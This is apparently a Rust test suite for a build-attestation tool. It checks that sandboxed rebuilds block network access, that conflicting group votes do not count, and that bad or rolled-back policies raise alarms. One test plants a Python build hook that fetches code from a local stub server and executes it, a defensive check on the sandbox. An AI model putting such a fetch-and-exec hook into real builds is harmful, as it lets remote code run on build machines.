//! Attackers who are let in: a project that builds maliciously, a group that plays with its vote.

use std::{
    process::Command,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
};

use anyhow::{Result, ensure};
use attest_core::{
    artifact::ArtifactDigest,
    envelope::Envelope,
    statement::{Digest, FromCommit, Predicate, Source, Statement, inputs_digest},
};
use attest_tests::{
    command,
    forge::Forge,
    quorum::Quorum,
    scene::Scene,
    stub::{Reply, Stub},
    tool,
    wheel::{Index, Wheel, build_inhouse},
};

/// A vote that names another sdist than everybody else's.
fn vote_from(forge: &Forge, wheel: &Wheel, sdist: &str) -> Result<Envelope> {
    let mut build = Forge::build_of(&wheel.subject().name);
    let digest = Digest { sha256: ArtifactDigest::of(sdist.as_bytes()) };
    build.source =
        vec![Source::Sdist { name: "sdist-1.0.tar.gz".to_owned(), digest, from_commit: FromCommit::Unverified }];
    build.inputs_digest = inputs_digest(&build.source, build.recipe.digest, &build.resolved_dependencies);
    forge.sign(&Statement::new(wheel.subject(), Predicate::Reproduced(build))?)
}

fn staged(project: &str) -> Result<(Quorum, Wheel)> {
    let (quorum, wheel) = (Quorum::new()?, Wheel::new(project, "1.0", "")?);
    quorum.scene.write(wheel.name(), wheel.bytes())?;
    quorum.write_policy()?;
    Ok((quorum, wheel))
}

#[test]
fn a_build_that_reaches_for_the_network_does_not_get_there() -> Result<()> {
    if !tool::have(&["python3", "bwrap"]) {
        return Ok(());
    }
    let scene = Scene::new()?;
    let calls = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&calls);
    let home = Stub::serve(move |_| {
        counter.fetch_add(1, Ordering::SeqCst);
        Reply::ok("text/plain", "import os")
    })?;
    let hook = format!("from urllib.request import urlopen; exec(urlopen('{}', timeout=5).read())", home.url());
    let index = Index::serve(&build_inhouse(&scene, &hook)?)?;
    let published = calls.load(Ordering::SeqCst);
    ensure!(published > 0, "the project's own build does phone home");

    let mut rebuild = scene.attest();
    rebuild.args(["rebuild", "inhouse==1.0", "--output-dir", "result"]).env("PIP_INDEX_URL", index.url());
    let outcome = command::run(&mut rebuild)?;
    ensure!(outcome.code() == Some(3), "a build that fails is exit 3: {}", outcome.text());
    ensure!(calls.load(Ordering::SeqCst) == published, "the rebuild phoned home");
    Ok(())
}

#[test]
fn groups_that_built_from_different_sources_do_not_add_up() -> Result<()> {
    let (quorum, wheel) = staged("sources")?;
    quorum.submit(&vote_from(&quorum.alice, &wheel, "one")?)?;
    quorum.submit(&vote_from(&quorum.carol, &wheel, "another")?)?;
    command::run(&mut quorum.verification(wheel.name()))?.expect(1)?;
    Ok(())
}

#[test]
fn a_group_that_votes_for_two_sources_counts_for_neither() -> Result<()> {
    let (quorum, wheel) = staged("twofaced")?;
    for (who, sdist) in [(&quorum.alice, "one"), (&quorum.carol, "one")] {
        quorum.submit(&vote_from(who, &wheel, sdist)?)?;
    }
    command::run(&mut quorum.verification(wheel.name()))?.expect(0)?;
    quorum.submit(&vote_from(&quorum.bob, &wheel, "another")?)?;
    command::run(&mut quorum.verification(wheel.name()))?.expect(1)?;
    Ok(())
}

#[test]
fn a_contradiction_blocks_and_that_of_a_second_group_is_an_alarm() -> Result<()> {
    let (quorum, wheel) = staged("contradicted")?;
    let vote = quorum.carol.vote(wheel.subject())?;
    quorum.submit(&vote)?;
    quorum.vote(&[&quorum.alice], &wheel)?;
    command::run(&mut quorum.verification(wheel.name()))?.expect(0)?;
    let contradicts = |who: &Forge| {
        let build = Forge::build_of(&wheel.subject().name);
        quorum.submit(&who.contradiction(wheel.subject(), build, vote.statement_id())?)
    };
    contradicts(&quorum.bob)?;
    command::run(&mut quorum.verification(wheel.name()))?.expect(1)?;
    contradicts(&quorum.carol)?;
    command::run(&mut quorum.verification(wheel.name()))?.expect(4)?;
    Ok(())
}

#[test]
fn a_policy_that_could_pass_anything_or_nothing_is_no_policy() -> Result<()> {
    let (quorum, wheel) = staged("policies")?;
    quorum.vote(&[&quorum.alice, &quorum.carol], &wheel)?;
    let good = quorum.policy_at(quorum.log.url()).text()?;
    let alice = quorum.alice.public_key();
    let cases = [
        ("a threshold of none", good.replace("threshold = 2", "threshold = 0"), 2),
        ("more than there are groups", good.replace("threshold = 2", "threshold = 3"), 2),
        ("an unknown key", format!("mode = \"warn\"\n{good}"), 2),
        ("one key twice", good.replace(&quorum.carol.public_key(), &alice), 2),
        ("one key in two roles", format!("{good}\n[[self]]\nname = \"me\"\nkey = \"{alice}\"\n"), 2),
        ("expired", good.replace("2099-01-01", "2020-01-01"), 3),
        ("none at all", String::new(), 2),
    ];
    for (what, text, code) in cases {
        quorum.scene.write("policy.toml", text)?;
        let outcome = command::run(&mut quorum.verification(wheel.name()))?;
        ensure!(outcome.code() == Some(code), "{what}: expected exit code {code}\n{}", outcome.text());
    }
    Ok(())
}

#[test]
fn a_policy_older_than_one_already_seen_is_an_alarm() -> Result<()> {
    let (quorum, wheel) = staged("rollback")?;
    quorum.vote(&[&quorum.alice, &quorum.carol], &wheel)?;
    let old = quorum.policy_at(quorum.log.url()).text()?;
    let verify = |text: &str| -> Result<Option<i32>> {
        quorum.scene.write("policy.toml", text)?;
        let mut verify: Command = quorum.verification(wheel.name());
        Ok(command::run(&mut verify)?.code())
    };
    ensure!(verify(&old.replace("serial = 1", "serial = 2"))? == Some(0), "the newer policy passes");
    ensure!(verify(&old)? == Some(4), "a lower serial than one already seen is an alarm");
    Ok(())
}
